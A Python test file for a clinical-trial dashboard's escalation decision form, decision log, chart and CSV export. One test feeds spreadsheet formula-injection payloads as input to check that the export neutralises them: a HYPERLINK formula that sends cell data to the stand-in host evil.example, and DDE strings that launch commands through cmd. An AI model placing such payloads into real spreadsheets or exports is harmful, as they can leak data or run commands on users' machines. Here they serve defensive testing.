"""AppTest: the Escalation page's decision form, history table and chart markers, on a copy of the demo
database so each test starts with no decision log."""
from __future__ import annotations

import csv
import datetime as dt
import io
import shutil
import sqlite3
from pathlib import Path

import pytest
from streamlit.runtime.media_file_manager import MediaFileManager
from streamlit.testing.v1 import AppTest

from smc.decision_log import ledger
from smc.ui import pages
from tests.helpers import ROOT, STUDIES, as_of_dates, data_cut, figures, run_app

ESCALATION = pages.script("escalation")


@pytest.fixture()
def fresh_db(demo_db, tmp_path, monkeypatch):
    """A copy of the demo database served by the app, with no decision log beside it."""
    path = tmp_path / "cut.duckdb"
    shutil.copy(demo_db, path)
    monkeypatch.setenv("SMC_DB", str(path))
    return path


def stored(db_path) -> list[sqlite3.Row]:
    """The log's rows, read with sqlite3 directly (not through smc.decisions)."""
    log = db_path.with_name("cut.decisions.sqlite")
    if not log.exists():
        return []
    con = sqlite3.connect(log)
    con.row_factory = sqlite3.Row
    try:
        return con.execute("SELECT * FROM decisions ORDER BY id").fetchall()
    finally:
        con.close()


def fill(at, *, word=None, level=None, rationale="", by="Dr Chair", attendees="", follows=None, supersedes=None):
    """Fill the form (word/level first: changing them resets "follows"), click Record and rerun."""
    if word is not None:
        at.selectbox(key="decision_word").set_value(word).run()
    if level is not None:
        at.selectbox(key="decision_level").set_value(level).run()
    if follows is not None:
        at.checkbox(key="decision_follows").set_value(follows)
    if supersedes is not None:
        at.selectbox(key="decision_supersedes").set_value(supersedes)
    at.text_area(key="decision_rationale").input(rationale)
    at.text_input(key="decision_attendees").input(attendees)
    at.text_input(key="decision_by").input(by)
    at.button(key="decision_record").click().run()
    assert not at.exception, [e.message for e in at.exception]
    return at


def open_escalation(study_id: str, as_of: dt.date) -> AppTest:
    """The page without run_app's no-error assertion (a broken log is an error box by design)."""
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=60)
    at.query_params.update({"study": study_id, "as_of": as_of.isoformat()})
    at.run()
    at.switch_page(ESCALATION).run()
    assert not at.exception, [e.message for e in at.exception]
    return at


def decision_table(at):
    return next(d.value for d in at.dataframe if "Record" in d.value.columns)


def history_decision_traces(at) -> list[dict]:
    history = next(f for f in figures(at) if "Escalation history" in f["layout"]["title"]["text"])
    return [t for t in history["data"] if t["name"].startswith("SMC decision")]


def other_level(sql, study_id: str, level: int) -> int:
    return next(lv for (lv,) in sql("SELECT level FROM dose_levels WHERE study_id = ? ORDER BY level", study_id)
                if lv != level)


@pytest.mark.parametrize("study_id", STUDIES)
def test_form_starts_at_the_rules_recommendation(fresh_db, sql, study_id):
    """Prefill: the decision word shown as the rule's action, follows ticked, at every as-of date."""
    for as_of in as_of_dates(sql, study_id)[:2]:
        at = run_app(study_id, as_of, ESCALATION)
        action = at.markdown[[m.value for m in at.markdown].index("##### Protocol rule") + 1].value
        # "### `de-escalate` 3×10^9 cells": the word between the backticks, the level's label after them
        word, target = action.split("`")[1], action.split("`")[2].strip()
        assert at.selectbox(key="decision_word").value == word
        if target:
            assert at.selectbox(key="decision_level").value == sql(
                "SELECT level FROM dose_levels WHERE study_id = ? AND label = ?", study_id, target)[0][0]
        assert at.checkbox(key="decision_follows").value is True
        levels = sql("SELECT level, label FROM dose_levels WHERE study_id = ? ORDER BY level", study_id)
        assert at.selectbox(key="decision_level").options == [f"{label} (level {lv})" for lv, label in levels]
        assert at.info[-1].value.startswith(f"No decision recorded for {study_id} yet")


def test_deviation_without_rationale_is_refused_and_nothing_is_written(fresh_db, sql):
    study_id = "IX001"
    at = run_app(study_id, data_cut(sql, study_id), ESCALATION)
    recommended = at.selectbox(key="decision_word").value
    deviation = "stay" if recommended not in ("enroll", "wait", "stay") else "escalate"
    fill(at, word=deviation)
    assert at.checkbox(key="decision_follows").value is False  # changing the decision recomputed it
    assert any("rationale" in e.value and "deviates" in e.value for e in at.error)
    assert stored(fresh_db) == []


def test_claiming_to_follow_a_different_decision_is_refused(fresh_db, sql):
    study_id = "IDOV-SAFE"
    at = run_app(study_id, data_cut(sql, study_id), ESCALATION)
    level = int(at.selectbox(key="decision_level").value)
    fill(at, level=other_level(sql, study_id, level), follows=True, rationale="")
    assert any("is not the recommendation" in e.value for e in at.error)
    assert stored(fresh_db) == []


def test_recorded_decisions_show_in_table_chart_and_file(fresh_db, sql):
    """A followed decision needs no rationale; a deviation with one is kept; a correction supersedes it."""
    study_id = "BIOTTT001"
    cut = data_cut(sql, study_id)
    at = run_app(study_id, cut, ESCALATION)
    word, level = at.selectbox(key="decision_word").value, int(at.selectbox(key="decision_level").value)
    fill(at, attendees="A, B, C")
    assert not at.error
    fill(at, level=other_level(sql, study_id, level), rationale="Sponsor asked <b>to wait</b> for PK",
         by='Dr "Two" <a href="x">')
    assert not at.error and at.success

    rows = stored(fresh_db)
    assert [(r["id"], r["seq"], r["decision"], r["follows_recommendation"]) for r in rows] == [
        (1, 1, word, 1), (2, 2, word, 0)]
    assert rows[0]["level"] == level and rows[1]["level"] != level
    assert rows[1]["rationale"] == "Sponsor asked <b>to wait</b> for PK" and rows[0]["attendees"] == "A, B, C"
    assert rows[1]["prev_hash"] == rows[0]["hash"] and rows[0]["data_cut_date"] == cut.isoformat()
    assert rows[0]["meeting_date"] == dt.datetime.now(dt.UTC).date().isoformat()

    table = decision_table(at)
    assert list(table["Record"]) == [2, 1]  # newest first
    traces = {t["name"]: t for t in history_decision_traces(at)}
    assert traces["SMC decision (follows the rule)"]["x"] == [cut.isoformat()]
    assert traces["SMC decision (deviation)"]["x"] == [cut.isoformat()]
    hover = traces["SMC decision (deviation)"]["customdata"][0]  # user text escaped, quotes kept as typed
    assert hover[5] == "Sponsor asked &lt;b&gt;to wait&lt;/b&gt; for PK"
    assert hover[6] == 'Dr "Two" &lt;a href="x"&gt;'

    # Correct record 2: it stays in the table, marked, and leaves the chart.
    fill(at, supersedes=2, rationale="Corrected: the SMC followed the rule", by="Dr Chair")
    assert [r["supersedes"] for r in stored(fresh_db)] == [None, None, 2]
    table = decision_table(at)
    assert table.set_index("Record").loc[2, "Superseded by"] == "#3"
    shown = [x for t in history_decision_traces(at) for x in t["customdata"]]
    assert sorted(c[0] for c in shown) == [1, 3]
    assert ledger.verify(ledger.log_path(fresh_db)) == []


def test_decisions_on_later_data_are_not_drawn_on_an_earlier_view(fresh_db, sql):
    study_id = "IX001"
    cut = data_cut(sql, study_id)
    fill(run_app(study_id, cut, ESCALATION), rationale="", by="Dr Chair")
    assert len(stored(fresh_db)) == 1
    earlier = run_app(study_id, as_of_dates(sql, study_id)[1], ESCALATION)
    assert history_decision_traces(earlier) == []
    assert list(decision_table(earlier)["Record"]) == [1]  # the table lists every record


def test_a_tampered_log_is_shown_as_broken(fresh_db, sql):
    study_id = "IX001"
    at = run_app(study_id, data_cut(sql, study_id), ESCALATION)
    fill(at, by="Dr Chair")
    fill(at, by="Dr Chair", rationale="second, a deviation", word="other")
    con = sqlite3.connect(fresh_db.with_name("cut.decisions.sqlite"))
    con.executescript("DROP TRIGGER decisions_no_update; UPDATE decisions SET recorded_by = 'Mallory' WHERE id = 1;")
    con.close()
    at = open_escalation(study_id, data_cut(sql, study_id))
    messages = [e.value for e in at.error]
    assert any("altered outside the dashboard" in m and "record #1" in m and "decisions_no_update" in m
               for m in messages), messages


def test_the_decision_log_csv_neutralises_formulas(fresh_db, sql, monkeypatch):
    """The history table's CSV, as the download button delivers it (its deferred callable run by Streamlit's own
    media file manager, as on a click): text a spreadsheet would run starts with ', numbers stay numbers."""
    managers = []

    class Kept(MediaFileManager):  # the real manager, kept so the test can ask it for the file after the run
        def __init__(self, *args, **kwargs):
            super().__init__(*args, **kwargs)
            managers.append(self)

    monkeypatch.setattr("streamlit.testing.v1.app_test.MediaFileManager", Kept)
    study_id = "IX001"
    at = run_app(study_id, data_cut(sql, study_id), ESCALATION)
    rationale = '=HYPERLINK("http://evil.example/?d="&A1,"Click")\n@SUM(1+9)*cmd|\' /C calc\'!A0'
    fill(at, word="other", rationale=rationale, attendees="  +cmd|' /C notepad'!A0", by="-2+3 ＝Dr Chair")
    assert at.success and len(stored(fresh_db)) == 1
    url = managers[-1].execute_deferred(at.download_button(key="decision_csv").proto.deferred_file_id)
    data = managers[-1].read_file(Path(url).stem).content
    header, row = csv.reader(io.StringIO(data.decode("utf-8"), newline=""))  # one record
    record = dict(zip(header, row))
    assert record["Rationale"] == ("'=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Click\")\n"
                                   "'@SUM(1+9)*cmd|' /C calc'!A0")
    assert record["Attendees"] == "'+cmd|' /C notepad'!A0"  # stored stripped of its leading spaces
    assert record["Recorded by"] == "'-2+3 ＝Dr Chair"
    assert record["Record"] == "1" and data.decode("utf-8").splitlines()[1].startswith("1,")  # a bare number
